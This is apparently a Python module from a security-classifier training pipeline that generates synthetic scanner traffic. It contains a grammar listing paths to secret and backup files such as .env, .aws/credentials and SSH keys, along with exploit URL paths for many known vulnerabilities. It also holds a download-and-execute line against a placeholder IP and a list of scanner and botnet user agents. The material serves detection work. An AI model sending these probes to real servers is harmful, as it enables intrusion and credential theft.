"""Scanners and probes: paths of leaks and exploits, backup files, tools' user agents."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import HEADER, PATH, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
dir = admin¦api¦app¦backup¦test¦dev¦old¦public¦web¦site¦blog¦wp¦wordpress¦shop¦config¦src¦portal¦v1¦core¦laravel¦backend¦www¦cms¦live¦new¦demo¦staging¦crm¦lib¦phpmyadmin¦db
dot = .env¦.git/config¦.git/HEAD¦.git/index¦.svn/entries¦.svn/wc.db¦.hg/hgrc¦.DS_Store¦.htaccess¦.htpasswd¦.aws/credentials¦.ssh/id_rsa¦.bash_history¦.npmrc¦.dockercfg¦.docker/config.json¦.vscode/sftp.json¦.idea/workspace.xml¦.env.bak¦.env.local¦.env.prod¦.env.production¦.env.save¦.env.old¦.env.example¦.git/logs/HEAD¦.gitlab-ci.yml¦.travis.yml¦.kube/config¦.pgpass¦.netrc¦.ftpconfig¦.remote-sync.json¦.mysql_history¦.svn/all-wcprops¦.bzr/README¦.git-credentials¦.wp-config.php.swp¦.config.php.swp¦.user.ini¦.well-known/../.env¦.env.dev¦.env.staging¦.terraform/terraform.tfstate¦.circleci/config.yml¦.aws/config¦.boto¦.s3cfg¦.bashrc¦.profile
leak = wp-config.php.bak¦wp-config.php~¦wp-config.php.old¦wp-config.php.save¦wp-config.txt¦config.php.bak¦config.php~¦configuration.php.bak¦config.inc.php.old¦settings.php.bak¦database.sql¦dump.sql¦backup.sql¦db.sql¦backup.zip¦backup.tar.gz¦www.zip¦site.tar.gz¦web.config.bak¦web.config¦phpinfo.php¦info.php¦test.php¦php.php¦i.php¦adminer.php¦server-status¦server-info¦debug.log¦error_log¦wp-content/debug.log¦storage/logs/laravel.log¦composer.lock¦package-lock.json¦Dockerfile¦docker-compose.yml¦id_rsa¦credentials.json¦secrets.yml¦config/database.yml¦application.yml¦application.properties¦appsettings.json¦parameters.yml¦local.settings.json¦elmah.axd¦trace.axd¦crossdomain.xml¦clientaccesspolicy.xml¦phpmyadmin/index.php¦sftp-config.json¦WS_FTP.LOG¦core.dump¦access.log¦sql.php¦shell.php¦c99.php¦wso.php¦alfa.php¦up.php¦r57.php¦cmd.php¦1.php¦x.php¦filemanager.php¦upload.php¦install.php¦setup.php¦console¦_profiler/phpinfo¦_profiler/open?file=app/config/parameters.yml¦app_dev.php¦telescope/requests¦horizon/api/stats¦rails/info/properties¦nginx_status¦phpstatus¦fpm-status¦.rsrc/config¦index.php.bak¦index.php~¦index.jsp%20¦login.php.swp¦users.csv¦passwords.txt¦wallet.dat¦swagger-ui.html/../heapdump
exploit:
  actuator/‹env¦heapdump¦gateway/routes¦jolokia¦logfile¦mappings¦trace¦threaddump¦configprops¦beans¦hystrix.stream¦shutdown¦refresh›
  vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
  phpunit/phpunit/src/Util/PHP/eval-stdin.php
  lib/phpunit/Util/PHP/eval-stdin.php
  _ignition/execute-solution
  solr/admin/‹cores?wt=json¦info/system¦collections?action=LIST›
  solr/‹az›/config
  cgi-bin/‹luci/;stok=/locale¦test-cgi¦printenv.pl¦php¦php-cgi¦status¦nobody/Search.cgi?action=cgi_query¦login.cgi?cli=aa¦mainfunction.cgi¦webproc¦jarrewrite.sh¦authLogin.cgi¦kerbynet?Action=x509view¦supervisor/CloudSetup.cgi¦user/Config.cgi¦nas_sharing.cgi?user=messagebus›
  boaform/admin/formLogin
  boaform/admin/formPing
  GponForm/diag_Form?images/
  HNAP1/
  hudson/script
  script
  manager/html
  host-manager/html
  jmx-console/HtmlAdaptor
  web-console/ServerInfo.jsp
  invoker/JMXInvokerServlet
  invoker/readonly
  wls-wsat/CoordinatorPortType
  _async/AsyncResponseService
  console/css/%252e%252e%252fconsole.portal
  console/images/%252e%252e%252fconsole.portal
  ‹az›/..;/manager/html
  ‹az›;‹az›/actuator/env
  tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=‹u_file›
  mgmt/tm/util/bash
  mgmt/shared/authn/login
  vpn/../vpns/cfg/smb.conf
  vpns/portal/scripts/newbm.pl
  +CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
  +CSCOE+/logon.html
  dana-na/../dana/html5acc/guacamole/../../../../../..‹u_file›?/dana/html5acc/guacamole/
  dana-na/auth/url_default/welcome.cgi
  api/v1/totp/user-backup-code/../../license/keys-status/;‹ucmd0›
  remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
  remote/logincheck
  api/v2/cmdb/system/admin/admin
  ui/vropspluginui/rest/services/uploadova
  ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability.VsanCapabilityProvider/getClusterCapabilityData
  eam/vib?id=‹u_file›
  autodiscover/autodiscover.json?@‹site›/‹owa¦mapi/nspi¦powershell¦ews›/?&Email=autodiscover/autodiscover.json%3F@‹site›
  autodiscover/autodiscover.json?a=‹mail›/powershell/?X-Rps-CAT=‹b64›
  owa/auth/x.js
  owa/auth/‹az›.aspx
  ecp/‹az›.js
  ecp/DDI/DDIService.svc/GetObject
  aspnet_client/‹rnd›.aspx
  pages/doenterpagevariables.action
  pages/createpage-entervariables.action?SpaceKey=x
  setup/setupadministrator.action
  server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false
  rest/tinymce/1/macro/preview
  json/setup-restore.action?synchronous=true
  secure/QueryComponent!Default.jspa
  s/‹az›/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
  plugins/servlet/oauth/users/icon-uri?consumerUri=‹url›
  guestaccess.aspx
  moveitisapi/moveitisapi.dll?action=m2
  human2.aspx
  api/v1/folders/‹n›/files?uploadType=resumable
  SetupWizard.aspx/‹az›
  app?service=page/SetupCompleted
  hax
  api/‹az›?‹az›=../../../../../../etc/passwd
  index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1
  index.php?lang=../../../../../../../../tmp/index1
  public/index.php?s=captcha
  wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php
  wp-admin/setup-config.php?step=0
  wp-admin/install.php
  wp-content/plugins/‹az›-‹az›/readme.txt
  wp-content/plugins/‹az›/‹az›.php?file=../../../../wp-config.php
  wp-content/uploads/‹rnd›.php
  wp-includes/wlwmanifest.xml
  wp-json/wp/v2/users/
  ?author=‹d1›
  ?rest_route=/wp/v2/users
  xmlrpc.php?rsd
  index.php?option=com_‹az›&view=../../../../../../etc/passwd%00
  index.php?option=com_‹az›&controller=../../../../../../../proc/self/environ%00
  administrator/index.php?option=com_joomlaupdate
  api/index.php/v1/config/application?public=true
  user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
  ?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=‹ucmd0›
  webtools/control/‹ProgramExport¦xmlrpc/?USERNAME=&PASSWORD=&requirePasswordChange=Y›
  seeyon/‹htmlofficeservlet¦thirdpartyController.do.css/..;/ajax.do¦webmail.do?method=doDownloadAtt&filename=index.jsp&filePath=../conf/datasourceCtp.properties›
  weaver/bsh.servlet.BshServlet
  servlet/~ic/bsh.servlet.BshServlet
  nacos/v1/‹auth/users?pageNo=1&pageSize=9¦cs/ops/derby?sql=select¦console/server/state›
  druid/indexer/v1/sampler
  druid/index.html
  geoserver/‹web/¦wfs?request=ListStoredQueries¦TestWfsPost›
  metrics/job/‹az›
  ReportServer/‹az›?op=fr_log&cmd=fg_errinfo&fr_username=admin
  WebReport/ReportServer?op=chart&cmd=get_geo_json&resourcepath=privilege.xml
  langs/../../../../etc/passwd
  device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=‹ucmd0›
  shell?cd+/tmp;rm+-rf+*;wget+‹ip›/‹shfile›;sh+/tmp/‹shfile›
  setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=‹ucmd0›&curpath=/&currentsetting.htm=1
  goform/‹set_LimitClient_cfg¦setMac¦formJsonAjaxReq¦webLogin¦SystemCommand›
  tmUnblock.cgi
  hedwig.cgi
  picdesc.xml
  UD/act?1
  ctrlt/DeviceUpgrade_1
  wanipcn.xml
  ws/v1/cluster/apps/new-application
  jars/upload
  jobmanager/logs/..%252f..%252f..%252fetc%252fpasswd
  api/jsonws/invoke
  containers/json
  v1.‹#20-44›/containers/create
  _cat/indices?v
  _search?source={"size":1}
  _nodes/_local
  v2/_catalog
  api/v1/pods
  api/v1/namespaces/kube-system/secrets
  run/kube-system/‹az›/‹az›
  latest/meta-data/iam/security-credentials/
  v1/agent/self
  v2/keys/?recursive=true
  debug/pprof/heap
  graphql?query={__schema{types{name}}}
  api/graphql
  phpmyadmin/‹scripts/setup.php¦index.php?lang=en¦import.php›
  pma/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd
  ‹mysql¦myadmin¦dbadmin¦sqladmin¦phpMyAdmin-5›/index.php
  w00tw00t.at.ISC.SANS.DFind:)
  muieblackcat
  scripts/..%255c../winnt/system32/cmd.exe?/c+dir
  scripts/root.exe?/c+dir
  _vti_bin/_vti_aut/author.dll
  _vti_pvt/service.pwd
  default.ida?‹xxxx›%u9090%u6858%ucbd3%u7801
  msadc/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir
  cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh
  cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh
  ..;/..;/
  %2e/WEB-INF/web.xml
  ?=PHPE9568F36-D428-11d2-A769-00AA001ACF42
  ?-s
  ?XDEBUG_SESSION_START=phpstorm
  nmaplowercheck‹big›
  ‹rnd32›.php
  ‹rnd›.jsp/
  .‹az›.php.suspected
  sdk
  evox/about
  HNAP1
  login.action?redirect:%25{‹n›*‹n›}
  struts2-showcase/showcase.action
  index.action?action:%25{‹n›}
  users/sign_in/../../../../etc/passwd
  uploads/user/../../../../../etc/passwd
  ‹az›.‹php¦jsp¦asp¦cgi›?cmd=‹ucmd0›
  ‹az›.php?‹file¦page¦include¦path›=‹url›
  plus/download.php?open=1&arrs1[]=99
  plugin.php?id=‹az›:‹az›%27
  onvif-http/snapshot?auth=YWRtaW46MTEK
  System/configurationFile?auth=YWRtaW46MTEK
  Security/users?auth=YWRtaW46MTEK
  cgi-bin/viewlog.asp
  rom-0
  currentsetting.htm
  backupmgt/localJob.php?session=fail;‹ucmd0›
  live/..%5c..%5c..%5cwindows/win.ini
  sap/public/icf_info/icr_urlprefix
  irj/servlet/prt/portal/prtroot/com.sap.portal.usermanagement.admin.UserMapping
  CTCWebService/CTCWebServiceBean/ConfigServlet
  developmentserver/metadatauploader?CONTENTTYPE=MODEL
  cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm
  CFIDE/adminapi/administrator.cfc
  CFIDE/administrator/enter.cfm?locale=../../../../../../lib/password.properties%00en
  lucee/admin/imgProcess.cfm?file=/../../../context/‹rnd›.cfm
  ddi/rest/‹az›/..;/‹az›
  sslvpn/?‹az›=../../etc
  sitecore/shell/ClientBin/Reporting/Report.ashx
  Telerik.Web.UI.WebResource.axd?type=rau
  Telerik.Web.UI.DialogHandler.aspx?dp=1
  ChangePassword.aspx/..;/‹az›
  user/zs.php?do=save
  pandora_console/index.php?sec=‹az›
  cacti/remote_agent.php?action=polldata&local_data_ids[0]=‹d1›&host_id=1&poller_id=`‹ucmd0›`
  zabbix/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx2=updatexml(0,concat(0xa,md5(1)),0)
  lookup?url=‹url›
  teamcity/app/rest/users/id:1/tokens/RPC2;.jsp
  hax?jsp=/app/rest/server;.jsp
  cslu/v1/scheduler/jobs
  webui/logoutconfirm.html?logon_hash=1
  %2577eb%2575i_%2577sma_Http
  webui_wsma_HTTPS
  global-protect/portal/css/‹az›.css/..;/
  unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css
  php/utils/createRemoteAppwebSession.php/‹rnd›.js.map
  clients/MyCRL
  sslvpn/..;/
paths:
  3×/‹dot›
  /‹dir›/‹dot›
  2×/‹leak›
  /‹dir›/‹leak›
  6×/‹exploit›
  /‹dir›/‹exploit›
  //‹exploit›
  /‹dot›?‹az›=‹n›
  /‹syl›.‹sql¦zip¦tar.gz¦bak¦rar¦7z¦sql.gz¦tgz›
  /‹backup¦www¦wwwroot¦site¦db¦web¦html¦data›‹¦_¦-¦1¦2023¦2024›.‹zip¦tar.gz¦sql¦rar¦bak¦7z¦tgz›
  /‹az›.‹php¦asp¦jsp¦aspx¦inc¦config›‹.bak¦~¦.old¦.swp¦.save¦.orig¦.1¦_bak¦.copy¦.txt¦.tmp›
  /%2e%65nv
  /%2eenv
  /.%65nv
  /.git%2fconfig
  /‹dir›/.%67it/config
  /./‹dot›
  /;/‹exploit›
  /‹dir›/%3b/‹exploit›
  /%2f‹dot›
  http://‹ip›/‹az›
  http://‹site›:80/
  /‹dot›/
  /‹rnd›/‹dot›
agents:
  5×sqlmap/1.‹#0-9›.‹#0-20›#‹stable¦dev› (‹http¦https›://sqlmap.org)
  4×Mozilla/5.00 (Nikto/2.‹d1›.‹d1›) (Evasions:‹None¦1¦8›) (Test:‹#1-9999›)
  Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
  Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
  masscan/1.‹d1› (https://github.com/robertdavidgraham/masscan)
  Mozilla/5.0 zgrab/0.x
  gobuster/‹d1›.‹d1›.‹d1›
  dirbuster/1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
  Wfuzz/‹d1›.‹d1›.‹d1›
  Fuzz Faster U Fool v‹d1›.‹d1›.‹d1›
  feroxbuster/‹d1›.‹d1›.‹d1›
  Arachni/v1.‹d1›.‹d1›
  w3af.org
  Acunetix-Product (WVS/‹d1›)
  Mozilla/5.0 (compatible; OpenVAS ‹d1›)
  WPScan v‹d1›.‹d1›.‹d1› (https://wpscan.com/wordpress-security-scanner)
  whatweb/0.‹d1›.‹d1›
  Mozilla/4.0 (Hydra)
  commix/v‹d1›.‹d1›-stable (https://commixproject.com)
  XSStrike/‹d1›.‹d1›
  jaeles/‹d1›
  Havij
  Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij
  ZmEu
  Morfeus Fucking Scanner
  Jorgee
  Mozilla/5.0 Jorgee
  libwww-perl/5.‹#800-850› sqlscan
  DirBuster-‹d1›.‹d1›
  skipfish/2.10b
  Vega/1.0
  Netsparker
  Nessus SOAP v0.0.1
  Mozilla/4.75 [en] (X11, U; Nessus)
  Burp Suite Professional
  ‹AZ6›.burpcollaborator.net
  httpx - Open-source project (github.com/projectdiscovery/httpx)
  katana/‹d1›
  dalfox/v‹d1›
  KrebsOnSecurity
  l9explore/1.‹d1›.‹d1›
  Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)
  xfa1
  r00ts3c-owned-you
  Mirai/‹d1›
  python-requests/2.‹#10-32›.0 dirsearch
  Mozilla/5.0 SF/‹d1›.‹d1›
  fimap.googlecode.com/v‹d1›
  Paros/3.2.13
  sysscan/1.0
  BBQSQL
  Toata dragostea mea pentru diavola
  Apache-Scan
  brutus/AET
  core-project/1.0
  cgichk
  Webshag
  Cisco-torch
  exploit.py
  CVE-20‹#15-25›-‹#1000-49999›
  polaris botnet
  Keksec
  LMAO/2.0
  dark_NeXus_Qbot/4.0 (compatible)
""",
    PARTS,
    {"xxxx": lambda rng: "NX"[int(rng.random() * 2)] * (40 + int(rng.random() * 200))},
)
KINDS = (
    AttackKind("scanner.path", Category.SCANNER, _G.maker("paths"), 4.0, (PATH,)),
    AttackKind("scanner.agent", Category.SCANNER, _G.maker("agents"), 1.0, (HEADER,)),
)
